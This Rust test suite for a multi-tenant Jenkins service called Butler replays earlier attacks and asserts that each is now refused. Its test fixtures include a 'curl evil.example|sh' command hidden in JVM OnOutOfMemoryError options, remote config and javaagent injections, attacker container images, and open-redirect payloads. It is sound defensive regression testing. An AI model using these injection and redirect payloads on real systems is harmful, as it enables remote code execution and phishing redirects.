//! Security suite, findings 2 and 4-8 of the attack on Butler (finding 1, the cross-tenant takeover, is in
//! `security_takeover.rs`; finding 3, IMDS from builds, in the reconciler's user-data test). Each test sends the
//! requests that succeeded before the fix and asserts the refusal.

use butler_tests::{environment_path, environments_path, manifest, TestApp, Who, PASSWORD};
use reqwest::{Method, StatusCode};
use serde_json::json;

/// The field errors of a 422.
fn fields(response: &butler_tests::TestResponse) -> Vec<(String, String)> {
    let problem = response.json();
    problem["errors"]
        .as_array()
        .map(|all| {
            all.iter()
                .map(|e| (e["field"].as_str().unwrap_or("").to_owned(), e["message"].as_str().unwrap_or("").to_owned()))
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test]
async fn finding_2_an_editor_cannot_run_code_in_the_controller_through_java_opts_or_the_image() {
    let app = TestApp::spawn().await;
    let attacks = [
        json!({ "controller": { "javaOpts": "-XX:OnOutOfMemoryError=\"sh -c 'curl evil.example|sh'\"" } }),
        json!({ "controller": { "javaOpts": "-Xmx1g -XX:OnOutOfMemoryError=id" } }),
        json!({ "controller": { "javaOpts": "-Dcasc.jenkins.config=https://evil.example/casc.yaml" } }),
        json!({ "controller": { "javaOpts": "-javaagent:/var/jenkins_home/a.jar" } }),
        json!({ "controller": { "image": "evil.example/jenkins/jenkins:lts" } }),
        json!({ "controller": { "image": "attacker/jenkins:lts" } }),
        json!({ "agents": { "templates": [{ "name": "default", "label": "ecs", "image": "attacker/agent:1" }] } }),
    ];
    for spec in attacks {
        let mut body = manifest("ci");
        body["spec"] = spec.clone();
        let response = app
            .send(app.request_as(Who::PaymentsEditor, Method::POST, &environments_path("payments")).json(&body))
            .await;
        assert_eq!(response.status, StatusCode::UNPROCESSABLE_ENTITY, "{spec}");
        let errors = fields(&response);
        assert!(
            errors.iter().any(|(field, _)| field.ends_with("javaOpts") || field.ends_with("image")),
            "{spec}: {errors:?}"
        );
    }
    assert_eq!(app.get(&environment_path("payments", "ci")).await.status, StatusCode::NOT_FOUND);
    // The same attack as a change of an existing environment is refused too, and changes nothing.
    assert_eq!(app.create("payments", &manifest("ci")).await.status, StatusCode::CREATED);
    let patch = json!({ "spec": { "controller": { "javaOpts": "-XX:OnError=id" } } });
    assert_eq!(app.merge_patch("payments", "ci", &patch).await.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(app.get(&environment_path("payments", "ci")).await.json()["metadata"]["generation"], 1);
}

#[tokio::test]
async fn finding_4_an_api_token_never_carries_more_than_its_creator_has_now() {
    let app = TestApp::spawn().await;
    let creator = app.user("lead@payments.test", Some(("payments", "admin"))).await;
    let session = app
        .send(
            app.anonymous(Method::POST, "/api/v1/auth/token")
                .json(&json!({"email": "lead@payments.test", "password": PASSWORD})),
        )
        .await;
    let jwt = session.json()["token"].as_str().expect("jwt").to_owned();
    let created = app
        .send(
            app.anonymous(Method::POST, "/api/v1/tenants/payments/tokens")
                .bearer_auth(&jwt)
                .json(&json!({ "name": "ci-bot", "role": "admin" })),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED);
    let token = created.json()["token"].as_str().expect("secret").to_owned();
    let members = "/api/v1/tenants/payments/members";
    let with_token = |method: Method, path: &str| app.anonymous(method, path).bearer_auth(&token);
    assert_eq!(app.send(with_token(Method::GET, members)).await.status, StatusCode::OK);

    // Demoted to viewer: the admin token acts as a viewer at most.
    let demote = json!({ "role": "viewer" });
    let path = format!("{members}/{creator}");
    assert_eq!(app.send(app.request(Method::PUT, &path).json(&demote)).await.status, StatusCode::OK);
    assert_eq!(app.send(with_token(Method::GET, members)).await.status, StatusCode::FORBIDDEN);
    assert_eq!(app.send(with_token(Method::GET, &environments_path("payments"))).await.status, StatusCode::OK);

    // Removed from the tenant: the token is dead.
    assert_eq!(app.send(app.request(Method::DELETE, &path)).await.status, StatusCode::NO_CONTENT);
    assert_eq!(
        app.send(with_token(Method::GET, &environments_path("payments"))).await.status,
        StatusCode::UNAUTHORIZED
    );

    // Back as admin (invited, then accepted), then disabled: dead again; and the JWT issued before the disabling
    // stays dead after it.
    let promote = json!({ "email": "lead@payments.test", "role": "admin" });
    assert_eq!(app.send(app.request(Method::POST, members).json(&promote)).await.status, StatusCode::ACCEPTED);
    let accept = app.anonymous(Method::POST, "/api/v1/me/invitations/payments").bearer_auth(&jwt);
    assert_eq!(app.send(accept).await.status, StatusCode::OK);
    assert_eq!(app.send(with_token(Method::GET, members)).await.status, StatusCode::OK);
    let user_path = format!("/api/v1/users/{creator}");
    assert_eq!(
        app.send(app.request(Method::PATCH, &user_path).json(&json!({"disabled": true}))).await.status,
        StatusCode::OK
    );
    assert_eq!(app.send(with_token(Method::GET, members)).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        app.send(app.request(Method::PATCH, &user_path).json(&json!({"disabled": false}))).await.status,
        StatusCode::OK
    );
    let old_jwt = app.send(app.anonymous(Method::GET, "/api/v1/me").bearer_auth(&jwt)).await;
    assert_eq!(old_jwt.status, StatusCode::UNAUTHORIZED, "a JWT from before the disabling still works");
}

#[tokio::test]
async fn finding_8_a_password_reset_ends_sessions_and_jwts_issued_before_it() {
    let app = TestApp::spawn().await;
    let user = app.user("dev@payments.test", Some(("payments", "editor"))).await;
    let login = json!({ "email": "dev@payments.test", "password": PASSWORD });
    let jwt = app.send(app.anonymous(Method::POST, "/api/v1/auth/token").json(&login)).await.json()["token"]
        .as_str()
        .expect("jwt")
        .to_owned();
    let session = app.send(app.anonymous(Method::POST, "/api/v1/auth/session").json(&login)).await;
    let cookie = session.header("set-cookie").expect("cookie");
    let cookie = cookie.split(';').next().expect("pair").to_owned();
    assert_eq!(
        app.send(app.anonymous(Method::GET, "/api/v1/me").header("cookie", &cookie)).await.status,
        StatusCode::OK
    );
    // Issued in an earlier second than the reset (JWT times are whole seconds).
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let reset = json!({ "password": "an entirely new passphrase" });
    let path = format!("/api/v1/users/{user}");
    assert_eq!(app.send(app.request(Method::PATCH, &path).json(&reset)).await.status, StatusCode::OK);
    assert_eq!(
        app.send(app.anonymous(Method::GET, "/api/v1/me").bearer_auth(&jwt)).await.status,
        StatusCode::UNAUTHORIZED
    );
    let by_cookie = app.send(app.anonymous(Method::GET, "/api/v1/me").header("cookie", &cookie)).await;
    assert_eq!(by_cookie.status, StatusCode::UNAUTHORIZED);
    // The new password works at once.
    let fresh = json!({ "email": "dev@payments.test", "password": "an entirely new passphrase" });
    assert_eq!(app.send(app.anonymous(Method::POST, "/api/v1/auth/token").json(&fresh)).await.status, StatusCode::OK);
}

#[tokio::test]
async fn finding_5_sign_in_never_sends_anyone_off_the_site() {
    let app = TestApp::spawn().await;
    for attack in
        ["/\\evil.example", "/%09/evil.example", "//evil.example", "https://evil.example/", "/%0a/evil.example"]
    {
        let page = app.anonymous(Method::GET, &format!("/login?next={attack}")).send().await.expect("login page");
        let html = page.text().await.expect("html");
        let next = html.split("data-next=\"").nth(1).and_then(|rest| rest.split('"').next()).expect("data-next");
        assert_eq!(next, "/", "{attack} kept as {next}");
    }
    let page = app.anonymous(Method::GET, "/login?next=/t/payments/environments").send().await.expect("page");
    assert!(page.text().await.expect("html").contains("data-next=\"/t/payments/environments\""));
}

#[tokio::test]
async fn finding_6_refused_anonymous_writes_cannot_flood_the_audit_log_or_file_under_a_tenant() {
    let app = TestApp::spawn().await;
    let long = "x".repeat(60_000);
    for _ in 0..60 {
        let path = format!("/api/v1/tenants/payments/jenkinsenvironments/{long}");
        let refused = app.anonymous(Method::DELETE, &path).send().await.expect("send");
        assert_eq!(refused.status(), StatusCode::UNAUTHORIZED);
    }
    let entries = app.audit(None).await;
    let anonymous: Vec<_> = entries.iter().filter(|e| e.actor == "anonymous").collect();
    assert!(!anonymous.is_empty() && anonymous.len() <= 20, "{} entries for one address in a minute", anonymous.len());
    assert!(anonymous.iter().all(|e| e.action.len() < 300), "the whole path was stored");
    assert!(anonymous.iter().all(|e| e.tenant.is_none()), "filed under the tenant the path named");
    assert!(app.audit(Some("payments")).await.iter().all(|e| e.actor != "anonymous"));
}

#[tokio::test]
async fn finding_7_costs_are_bounded_by_the_profile() {
    let app = TestApp::spawn().await;
    let profile = json!({
        "region": "eu-west-1", "vpcId": "vpc-0123456789abcdef0",
        "subnetIds": ["subnet-0123456789abcdef0", "subnet-0123456789abcdef1"]
    });
    assert_eq!(app.send_json(Method::PUT, "/api/v1/cloudprofiles/default", &profile).await.status, StatusCode::CREATED);
    let mut body = manifest("gpu");
    body["spec"] = json!({
        "capacity": { "instanceTypes": ["p5.48xlarge"], "max": 20, "onDemandBase": 20, "onDemandPercentAboveBase": 100 },
        "storage": { "throughputMode": "provisioned", "provisionedThroughputMibps": 3414 }
    });
    let response =
        app.send(app.request_as(Who::PaymentsEditor, Method::POST, &environments_path("payments")).json(&body)).await;
    assert_eq!(response.status, StatusCode::UNPROCESSABLE_ENTITY);
    let errors = fields(&response);
    assert!(
        errors.iter().any(|(f, m)| f == "spec.capacity.instanceTypes[0]" && m.contains("not allowed")),
        "{errors:?}"
    );
    assert!(
        errors.iter().any(|(f, m)| f == "spec.storage.provisionedThroughputMibps" && m.contains("cap")),
        "{errors:?}"
    );
    // A type the profile allows but Butler has no price for is refused, not estimated at zero.
    let open = json!({
        "region": "eu-west-1", "vpcId": "vpc-0123456789abcdef0",
        "subnetIds": ["subnet-0123456789abcdef0", "subnet-0123456789abcdef1"],
        "guardrails": { "allowedInstanceTypes": ["p5.*", "m6i.*"] }
    });
    assert_eq!(app.send_json(Method::PUT, "/api/v1/cloudprofiles/default", &open).await.status, StatusCode::OK);
    body["spec"]["storage"] = json!({});
    let response =
        app.send(app.request_as(Who::PaymentsEditor, Method::POST, &environments_path("payments")).json(&body)).await;
    assert_eq!(response.status, StatusCode::UNPROCESSABLE_ENTITY);
    let errors = fields(&response);
    assert!(errors.iter().any(|(f, m)| f == "spec.capacity.instanceTypes[0]" && m.contains("no price")), "{errors:?}");
    assert_eq!(app.get(&environment_path("payments", "gpu")).await.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn finding_8_sign_in_limits_key_on_the_normalized_email_and_strangers_cannot_lock_an_account() {
    let app = TestApp::spawn().await;
    app.user("target@payments.test", Some(("payments", "viewer"))).await;
    // Whitespace and case variants count against the same account.
    let mut limited = false;
    for attempt in 0..15 {
        let email = format!("{}TARGET@payments.test{}", " ".repeat(attempt % 3), " ".repeat(attempt % 2));
        let wrong = json!({ "email": email, "password": "not the password at all" });
        let response = app.send(app.anonymous(Method::POST, "/api/v1/auth/token").json(&wrong)).await;
        if response.status == StatusCode::TOO_MANY_REQUESTS {
            limited = true;
            assert!(response.header("retry-after").is_some());
            break;
        }
        assert_eq!(response.status, StatusCode::UNAUTHORIZED);
    }
    assert!(limited, "variants of one email were never limited");
    // (That a stranger's attempts leave the owner's own address free is the limiter's unit test: these requests
    // all come from one loopback address.)
}

#[tokio::test]
async fn finding_8_trivial_passwords_metrics_and_labels() {
    let app = TestApp::spawn().await;
    for weak in ["            ", "aaaaaaaaaaaaaaaa", "password1234"] {
        let body = json!({ "email": "new@payments.test", "password": weak });
        let response = app.send(app.request(Method::POST, "/api/v1/users").json(&body)).await;
        assert_eq!(response.status, StatusCode::UNPROCESSABLE_ENTITY, "{weak:?} accepted");
    }
    // /metrics is not public, nor for tenant users.
    assert_eq!(app.send(app.anonymous(Method::GET, "/metrics")).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        app.send(app.request_as(Who::PaymentsAdmin, Method::GET, "/metrics")).await.status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(app.send(app.request(Method::GET, "/metrics")).await.status, StatusCode::OK);
    // Labels are bounded in number.
    let mut body = manifest("labels");
    let labels: serde_json::Map<String, serde_json::Value> = (0..100).map(|i| (format!("k{i}"), json!("v"))).collect();
    body["metadata"]["labels"] = serde_json::Value::Object(labels);
    let response = app.create("payments", &body).await;
    assert_eq!(response.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(fields(&response).iter().any(|(f, _)| f == "metadata.labels"), "{:?}", fields(&response));
}

#[tokio::test]
async fn finding_7_a_budget_refuses_changes_projected_beyond_it_and_lets_a_tenant_shrink() {
    let app = TestApp::spawn().await;
    let profile = json!({
        "region": "us-east-1", "vpcId": "vpc-0123456789abcdef0",
        "subnetIds": ["subnet-0123456789abcdef0", "subnet-0123456789abcdef1"]
    });
    assert_eq!(app.send_json(Method::PUT, "/api/v1/cloudprofiles/default", &profile).await.status, StatusCode::CREATED);
    let budget = json!({ "monthlyUsd": 0.01 });
    assert_eq!(app.send_json(Method::PUT, "/api/v1/tenants/payments/budget", &budget).await.status, StatusCode::OK);
    // Nothing running costs nothing: within any budget.
    let mut idle = manifest("ci");
    idle["spec"] =
        json!({ "capacity": { "instanceTypes": ["m5.large", "m6i.large", "m7i.large"], "min": 0, "max": 4 } });
    assert_eq!(app.create("payments", &idle).await.status, StatusCode::CREATED);
    // One on-demand m5.large for the rest of the month is far beyond 0.01 USD (unless the month ends within
    // minutes: then the projection is honestly small and the refusal is not expected).
    let now = chrono::Utc::now();
    let next_month = {
        use chrono::Datelike;
        let first = chrono::NaiveDate::from_ymd_opt(now.year(), now.month(), 1).expect("date");
        first
            .checked_add_months(chrono::Months::new(1))
            .expect("next")
            .and_hms_opt(0, 0, 0)
            .expect("midnight")
            .and_utc()
    };
    let grow = json!({ "spec": { "capacity": { "min": 1 } } });
    let response = app.merge_patch("payments", "ci", &grow).await;
    if next_month - now > chrono::Duration::minutes(10) {
        assert_eq!(response.status, StatusCode::FORBIDDEN, "{:?}", response.json());
        let problem = response.json();
        assert_eq!(problem["quota"], "monthlyBudgetUsd");
        assert!(problem["requested"].as_i64().expect("projection") >= 1, "{problem}");
        assert!(problem["detail"].as_str().expect("detail").contains("projected spend"), "{problem}");
        assert_eq!(app.get(&environment_path("payments", "ci")).await.json()["metadata"]["generation"], 1);
        let refusals = app.audit(Some("payments")).await;
        assert!(refusals.iter().any(|e| e.outcome == "denied" && e.status_code == 403), "the refusal is audited");
    }
    // A change that does not raise the projection is always allowed.
    let shrink = json!({ "spec": { "capacity": { "max": 2 } } });
    assert_eq!(app.merge_patch("payments", "ci", &shrink).await.status, StatusCode::OK);
}

#[tokio::test]
async fn finding_8_a_tenant_cannot_redeploy_its_controllers_without_bound() {
    let app = TestApp::spawn().await;
    assert_eq!(app.create("payments", &manifest("ci")).await.status, StatusCode::CREATED);
    let mut statuses = Vec::new();
    for max_agents in 2..22 {
        let patch = json!({ "spec": { "agents": { "maxAgents": max_agents } } });
        let response = app.merge_patch("payments", "ci", &patch).await;
        if response.status == StatusCode::TOO_MANY_REQUESTS {
            let wait: u64 = response.header("retry-after").expect("Retry-After").parse().expect("seconds");
            assert!((1..=60).contains(&wait), "{wait}");
        }
        statuses.push(response.status.as_u16());
    }
    let accepted = statuses.iter().filter(|s| **s == 200).count();
    assert_eq!(accepted, 10, "{statuses:?}");
    assert!(statuses[10..].iter().all(|s| *s == 429), "{statuses:?}");
    // Another tenant is not held back by this one.
    let other =
        app.send(app.request_as(Who::OtherAdmin, Method::POST, &environments_path("other")).json(&manifest("x"))).await;
    assert_eq!(other.status, StatusCode::CREATED);
}

#[tokio::test]
async fn finding_8_looking_into_another_tenant_is_audited_without_telling_that_tenant() {
    let app = TestApp::spawn().await;
    let probe = app.send(app.request_as(Who::OtherAdmin, Method::GET, &environment_path("payments", "ci"))).await;
    assert_eq!(probe.status, StatusCode::NOT_FOUND);
    let missing = app.send(app.request_as(Who::OtherAdmin, Method::GET, &environment_path("nosuchtenant", "ci"))).await;
    assert_eq!(missing.json()["detail"], json!("tenant \"nosuchtenant\" not found"), "a probe and a miss look alike");
    assert_eq!(probe.json()["detail"], json!("tenant \"payments\" not found"));
    let entries = app.audit(None).await;
    let probes: Vec<_> =
        entries.iter().filter(|e| e.status_code == 404 && e.actor == "user:admin@other.test").collect();
    assert_eq!(probes.len(), 2, "{entries:?}");
    assert!(probes.iter().all(|e| e.tenant.is_none() && e.outcome == "denied"));
    assert!(probes.iter().any(|e| e.detail.as_deref() == Some("not a member of tenant \"payments\"")));
    assert!(app.audit(Some("payments")).await.iter().all(|e| e.status_code != 404));
}

#[tokio::test]
async fn finding_8_a_tenant_admin_cannot_learn_which_emails_have_accounts_nor_add_anyone() {
    let app = TestApp::spawn().await;
    app.user("exists@elsewhere.test", None).await;
    let invite = |email: &str| {
        app.request_as(Who::PaymentsAdmin, Method::POST, "/api/v1/tenants/payments/members")
            .json(&json!({ "email": email, "role": "admin" }))
    };
    let known = app.send(invite("exists@elsewhere.test")).await;
    let unknown = app.send(invite("nobody@elsewhere.test")).await;
    assert_eq!((known.status, unknown.status), (StatusCode::ACCEPTED, StatusCode::ACCEPTED));
    let shape = |r: &butler_tests::TestResponse| {
        let mut keys: Vec<String> = r.json().as_object().expect("object").keys().cloned().collect();
        keys.sort();
        keys
    };
    assert_eq!(shape(&known), shape(&unknown), "the answers differ in shape");
    // Nobody joined: the members list has no new name until the person accepts.
    let members = app.send(app.request_as(Who::PaymentsAdmin, Method::GET, "/api/v1/tenants/payments/members")).await;
    assert!(!members.json().to_string().contains("exists@elsewhere.test"));
    // And the platform's user list stays a platform admin's.
    let users = app.send(app.request_as(Who::PaymentsAdmin, Method::GET, "/api/v1/users")).await;
    assert_eq!(users.status, StatusCode::FORBIDDEN);
}

#[test]
fn finding_3_builds_cannot_reach_the_instance_metadata_service() {
    // The container instances' user data: awsvpc tasks (builds) are cut off from IMDS and the instance role.
    let user_data = butler::reconcile::environment::capacity::user_data("butler-payments_ci");
    assert!(user_data.lines().any(|line| line == "ECS_AWSVPC_BLOCK_IMDS=true"), "{user_data}");
}

#[test]
fn finding_8_cookies_are_secure_and_hsts_is_sent_when_the_public_url_is_https() {
    let config = |public_url: &'static str| {
        butler::config::Config::from_lookup(move |name| match name {
            "DATABASE_URL" => Some("postgres://localhost/x".to_owned()),
            "BUTLER_JWT_SECRET" => Some("0123456789abcdef0123456789abcdef".to_owned()),
            "BUTLER_PUBLIC_URL" => Some(public_url.to_owned()),
            _ => None,
        })
        .expect("config")
    };
    assert!(config("https://butler.example.com").secure_cookies);
    assert!(!config("http://127.0.0.1:8080").secure_cookies);
}
